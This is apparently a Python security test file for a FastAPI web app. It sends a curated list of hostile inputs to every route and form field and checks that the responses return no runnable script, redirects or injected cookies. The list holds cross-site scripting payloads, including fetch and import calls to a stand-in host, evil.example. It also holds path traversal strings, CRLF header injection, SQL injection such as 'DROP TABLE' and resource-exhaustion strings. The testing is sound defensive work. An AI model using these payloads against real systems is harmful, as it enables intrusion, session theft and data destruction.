"""Hostile text in every form and every field of the API: nothing is answered by 5xx, and nothing comes back that runs."""

import re
from collections.abc import Iterator
from itertools import islice
from typing import Any

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient
from selectolax.lexbor import LexborHTMLParser

from app.db.store import Store
from app.kernel.clock import FixedClock
from app.kernel.roles import Role
from app.main import create_app
from app.settings import Settings
from tests.people import add_person, browser_of
from tests.web.test_routes import TABLE, address

_CALLS = (
    "alert(1)",
    "alert`1`",
    "top['al'+'ert'](1)",
    "fetch('//evil.example')",
    "import('//evil.example/x.js')",
)
_MARKUP = (
    "<script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>", "<svg><script>{}</script></svg>",
    '"><script>{}</script>', "'-{}-'", "</title><script>{}</script>", "<details open ontoggle={}>",
    "<math><mtext><img src=x onerror={}></mtext></math>", "<iframe srcdoc='<script>{}</script>'>",
    "<a href='javascript:{}'>x</a>", "[x](javascript:{})", "![x](javascript:{})", "$\\href{{javascript:{}}}{{x}}$",
    "$\\htmlData{{onload={}}}{{x}}$", "<template><script>{}</script></template>", "<form action=javascript:{}><button>",
    "<input autofocus onfocus={}>", "<base href=//evil.example/><script>{}</script>",
    "<style>@import '//evil.example';</style>{}",
    "<object data='data:text/html,<script>{}</script>'>", "<link rel=stylesheet href=//evil.example/x.css>{}",
    "{{{{ {} }}}}", "${{{}}}", "<div hx-get=//evil.example hx-trigger=load>{}</div>", "<div hx-on:load={}>x</div>",
    "<noscript><p title='</noscript><script>{}</script>'>",
)  # fmt: skip
_OTHERS = (
    "../../../../etc/passwd", "..%2f..%2fetc%2fpasswd", "....//....//etc/passwd", "C:\\Windows\\win.ini", "/proc/self/environ",
    "a\r\nSet-Cookie: viva=stolen", "a%0d%0aLocation: //evil.example", "//evil.example", "https:evil.example", "/\\evil.example",
    "' OR 1=1 --", "'; DROP TABLE card; --", "%' UNION SELECT password_hash FROM account --", "\0", "a\0b", "\ud7ff\ufffe",
    "\u202e\u2066abc", "\u200b", "а" * 100, "аdmin", "a" * 20_000, "🙂" * 4_000, "9" * 400, "-1", "1e309", "NaN", "٣", "0x10",
    str(2**63), str(-(2**63)), "[" * 3_000, "(" * 3_000, "$" * 3_000, "`" * 3_000, "*a" * 3_000, "\\" * 3_000, "<" * 3_000,
    "$$\\def\\a{\\a\\a}\\a$$", "$\\rule{1e9em}{1e9em}$", "{" * 2_000, "&#x6a;avascript:",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml,<svg onload=alert(1)>", "file:///etc/passwd", "null", "true", "{}", "[]", '{"a": 1}', "",
)  # fmt: skip
HOSTILE = (*(form.format(call) for form in _MARKUP for call in _CALLS), *_OTHERS)
_FIELDS = (
    "name", "password", "next", "link", "code", "old", "new", "theme", "zone", "disk_changes", "rollover_hour", "new_per_day",
    "reviews_per_day", "desired_retention", "grade", "seen_reps", "took_ms", "scope_handbook", "scope_topic", "seen_review",
    "action", "query", "card", "cards", "tag", "text", "base", "back", "title", "question", "answer", "topic", "count", "only",
    "behaviour", "time_limit", "topics", "number", "certainty", "choice", "order", "scope", "days", "role", "blueprint", "seed",
    "position", "opinion", "note", "minutes", "flagged", "kind", "guess", "days_valid", "credential", "email",
)  # fmt: skip
_RUNS = re.compile(r"^\s*(javascript|data:text|vbscript)", re.IGNORECASE)


@pytest.fixture
def app(settings: Settings, store: Store, clock: FixedClock) -> FastAPI:
    return create_app(settings, clock, store, works=False)


@pytest.fixture
def owner(app: FastAPI, store: Store, clock: FixedClock) -> Iterator[TestClient]:
    person = add_person(store, "anna", Role.OWNER, clock.now())
    with browser_of(app, store, person, clock.now()) as made:
        yield made


def test_there_are_enough_of_them() -> None:
    assert len(set(HOSTILE)) >= 150


def test_hostile_text_in_every_form_and_address(owner: TestClient, subtests: pytest.Subtests) -> None:
    routes = [route for route in TABLE if not route.endswith(("/sign-out", "/sign-ins/end", "/events"))]
    for start, route in enumerate(routes):
        with subtests.test(route):
            for text in islice((*HOSTILE, *HOSTILE), 2 * start % len(HOSTILE), 2 * start % len(HOSTILE) + 2):
                _send(owner, route, text)


# What comes back does not depend on the database, and all of it takes a while.
@pytest.mark.parametrize("settings", ["sqlite"], indirect=True)
@pytest.mark.parametrize(
    "path", ["/search?q=", "/cards?q=", "/sign-in?next=", "/handbooks/", "/join?link=", "/settings?saved="]
)
def test_every_hostile_text_in_what_pages_echo(owner: TestClient, path: str) -> None:
    for text in HOSTILE:
        _check(owner.get(path + _quoted(text)), text)


@pytest.mark.parametrize("settings", ["sqlite"], indirect=True)
def test_every_hostile_text_as_a_persons_name(owner: TestClient) -> None:
    form = dict(re.findall(r'name="(\w+)"[^>]*value="([^"]*)"', owner.get("/settings").text))
    form |= {"theme": "dark", "disk_changes": "apply", "zone": "UTC"}
    for text in HOSTILE:
        _check(owner.post("/settings", data={**form, "name": text[:80]}), text)
        _check(owner.get("/people"), text)


def _send(client: TestClient, route: str, text: str) -> None:
    method, path = address(route)
    hostile = _quoted(text)
    form = dict.fromkeys(_FIELDS, text)
    in_address = "&".join(f"{name}={_quoted(text[:100])}" for name in _FIELDS)
    _check(client.request(method, f"{path}?{in_address}"), text)
    if method != "GET":
        _check(client.request(method, path, data=form), text)
        _check(client.request(method, path, json=form), text)
        _check(client.request(method, path, content=text.encode("utf-8", "surrogatepass")), text)
    raw = re.sub(r"\{[^}]+\}", lambda _: hostile[:2_000], route.split(" ", 1)[1])
    if raw != route.split(" ", 1)[1]:
        _check(client.request(method, raw), text)


def _quoted(text: str) -> str:
    return "".join(f"%{byte:02X}" for byte in text[:3_000].encode("utf-8", "surrogatepass")) or "%20"


def _check(answer: Any, text: str) -> None:
    assert answer.status_code < 500, (
        answer.request.method,
        str(answer.request.url)[:200],
        text[:80],
        answer.text[:300],
    )
    assert "evil.example" not in answer.headers.get("location", "").partition("?")[0]
    assert "stolen" not in answer.headers.get("set-cookie", "")
    assert "default-src 'none'" in answer.headers["content-security-policy"]
    if not answer.headers.get("content-type", "").startswith("text/html"):
        return
    for node in LexborHTMLParser(answer.text).css("*"):
        assert node.tag not in ("iframe", "object", "embed", "base"), text
        if node.tag == "script":
            assert (node.attributes.get("src") or "").startswith("/static/"), text
        for name, value in node.attributes.items():
            assert not name.startswith(("on", "hx-on")), (name, text)
            assert not _RUNS.match(value or "") or name in ("value", "content", "aria-label"), (
                name,
                value,
                text,
            )
